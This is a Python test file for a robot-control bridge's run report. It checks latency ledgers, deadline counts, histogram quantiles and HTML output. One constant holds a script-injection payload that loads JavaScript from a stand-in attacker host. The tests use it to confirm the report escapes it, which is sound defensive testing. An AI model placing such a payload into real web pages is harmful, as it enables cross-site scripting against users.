"""A run's page says what happened, its numbers are right, and it needs nothing else."""

import json
import re
from dataclasses import replace

import numpy as np
import pytest
from robot_bridge_recorded import PERIOD_NS, TICK_NS, Filled, make_plan

from robot_bridge.control import State
from robot_bridge.ledger import Histogram, Log
from robot_bridge.plan import TICK_SLOTS
from robot_bridge.report import write_report
from robot_bridge.wire import TIMING
from vla.errors import UnderstudyError

HOSTILE = "</td><script src=https://evil.example/x.js></script>"


@pytest.fixture
def filled(tmp_path):
    return Filled(make_plan(tmp_path / "run"))


def tick(filled, number, state=State.TRACKING, late_ns=80_000):
    """One tick, counted from the beginning of the run."""
    stamp, where = filled.first * PERIOD_NS + number * TICK_NS, np.array([0.01, -0.02]) * number
    given = {"reference": where, "sent": where + 0.001, "measured": where - 0.002}
    filled.rings["ticks"].write(stamp_ns=stamp, late_ns=late_ns, state=state, **given)


def answer(filled, *, infer_ms=30, ready_ms=4):
    """An answer to what was seen now; its first step begins ``ready_ms`` after it has come."""
    seen_ns = filled.now_ns
    arrived_ns = seen_ns + (2 + 1 + 3 + 5 + infer_ms) * 1_000_000
    timing = dict(zip((f"{name}_us" for name in TIMING), (5000, 1000 * infer_ms, 1000 * (infer_ms + 5)), strict=True))
    spans = {"round_trip_us": 1000 * (infer_ms + 9), "encoded_us": 1000}
    filled.rings["chunks"].write(stamp_ns=seen_ns, arrived_ns=arrived_ns, **spans, **timing)
    stamp_ns = arrived_ns + ready_ms * 1_000_000
    for after_ns in (0, PERIOD_NS):
        action = np.zeros(3, np.float32)
        filled.rings["steps"].write(
            stamp_ns=stamp_ns + after_ns, asked=action + 2, sent=action + 1, age_ns=stamp_ns + after_ns - seen_ns
        )
    filled.k += 2


def drive(filled, log, *, instruction="lift"):
    """Four seconds: armed, tracking, stopped by a lost link."""
    filled.begin(instruction)
    states = [State.ARMED] * 50 + [State.TRACKING] * 300 + [State.RAMP_STOP] * 20 + [State.STOPPED] * 30
    for number, state in enumerate(states):
        tick(filled, number, state, late_ns=900_000 if number == 200 else 80_000)
        if number % 10 == 0 and state is State.TRACKING:
            answer(filled)
        if number % 5 == 0:
            log.drain()
    filled.say("order_arm")
    filled.say("clamped", "an action was out of its bounds")
    filled.say("clamped", HOSTILE)
    filled.say("stop_link", "nobody answers")
    filled.status(State.STOPPED, ticks=400, missed=2)
    filled.link(asked=33, answered=30, dropped=4)


def test_the_ledger_counts_and_measures(filled):
    log = Log(filled.plan)
    drive(filled, log)
    log.drain()
    ledger = log.ledger()
    expected = {"waited": 2, "encode": 1, "wire": 3, "queued": 5, "infer": 30, "arrived_after": 41}
    expected |= {"ready": 4, "actuated_after": 45}
    for stage, milliseconds in expected.items():
        summary = ledger.stages_ms[stage]
        assert summary["count"] == 30, stage
        assert summary["p50"] == pytest.approx(milliseconds, rel=0.02), stage
        assert summary["max"] == pytest.approx(milliseconds), stage
    assert ledger.late_ms["p50"] == pytest.approx(0.08, rel=0.02)
    assert ledger.late_ms["max"] == pytest.approx(0.9)
    assert (ledger.ticks, ledger.missed, ledger.unseen, ledger.state) == (400, 2, 0, "STOPPED")
    assert (ledger.asked, ledger.answered, ledger.dropped, ledger.deadline_misses) == (33, 30, 4, 2)
    assert ledger.interventions == {"clamped": 2, "stop_link": 1}
    line = ledger.line()
    assert "\n" not in line
    assert {"STOPPED 4.0 s", "30 of 33 answered", "3 interventions"} <= set(line.split(" · "))


def test_a_chunk_that_comes_after_its_budget_is_a_missed_deadline(filled):
    log = Log(filled.plan)
    filled.begin()
    for infer_ms in (30, 200, 30):
        answer(filled, infer_ms=infer_ms)
    filled.link(asked=4, answered=3)
    log.drain()
    assert log.ledger().deadline_misses == 1  # the fourth is still under way


def test_the_page_is_one_file_and_says_what_happened(filled, tmp_path):
    log = Log(filled.plan)
    drive(filled, log)
    page = write_report(tmp_path / "report", log, more={"operator": HOSTILE})
    text = page.read_text("utf-8")
    assert "<script" not in text
    assert not re.findall(r"<[^>]*\b(?:src|href)=", text)
    assert text.count('<svg viewBox="0 0 360 190"') == 2 + 3  # joints, and entries of an action
    for word in ("tracking", "ramp_stop", "stopped"):
        assert f'class="band {word}"' in text
    for word in ("nobody answers", "order_arm", "inference", "deadlines missed", "toy-arm", "127.0.0.1:5555"):
        assert word in text, word
    numbers = json.loads((tmp_path / "report" / "report.json").read_text())
    assert numbers["ledger"] == log.ledger().to_dict()
    assert [one["code"] for one in numbers["events"]] == ["order_arm", "clamped", "clamped", "stop_link"]
    assert numbers["provenance"]["operator"] == HOSTILE
    assert len(list((tmp_path / "report").iterdir())) == 2


def test_a_run_in_which_nothing_happened_has_a_page_too(filled, tmp_path):
    log = Log(filled.plan)
    assert log.ledger().line() == "- 0.0 s · 0 Hz · 0 of 0 answered · 0 interventions"
    assert "No tick of control was seen" in write_report(tmp_path, log).read_text("utf-8")


def test_a_replay_has_no_latencies_of_a_server(filled, tmp_path):
    log = Log(replace(filled.plan, actions=tmp_path / "actions.npy"))
    drive(filled, log)
    text = write_report(tmp_path, log).read_text("utf-8")
    assert "inference" not in text
    assert "replay" in text


def test_a_page_of_a_long_run_stays_small_and_what_was_overwritten_is_told(filled, tmp_path, monkeypatch):
    monkeypatch.setattr("robot_bridge.ledger.MOST_SHOWN", 2000)
    log = Log(filled.plan)
    filled.begin()
    for number in range(TICK_SLOTS + 3000):
        tick(filled, number)
        if number < 1000 and number % 100 == 0:
            log.drain()
    log.drain()
    ledger = log.ledger()
    assert ledger.unseen > 0
    assert ledger.late_ms["count"] + ledger.unseen == TICK_SLOTS + 3000
    assert len(log.ticks) <= 2000
    assert len(write_report(tmp_path, log).read_text("utf-8")) < 200_000


def test_a_folder_that_cannot_be_written_is_an_error_with_its_name(filled, tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(UnderstudyError, match="report cannot be written"):
        write_report(tmp_path / "file", Log(filled.plan))


def test_quantiles_of_a_histogram_are_those_of_the_values():
    values = np.random.default_rng(0).lognormal(1.0, 1.0, 20_000)
    histogram = Histogram()
    for part in np.split(values, 20):
        histogram.add(part)
    histogram.add([])
    for share in (0.01, 0.5, 0.95, 0.99, 0.999):
        assert histogram.quantile(share) == pytest.approx(np.quantile(values, share), rel=0.02)
    assert (histogram.max, histogram.count) == (values.max(), 20_000)
    histogram.add([-1.0, 1e30])
    assert histogram.quantile(0.0) >= 0
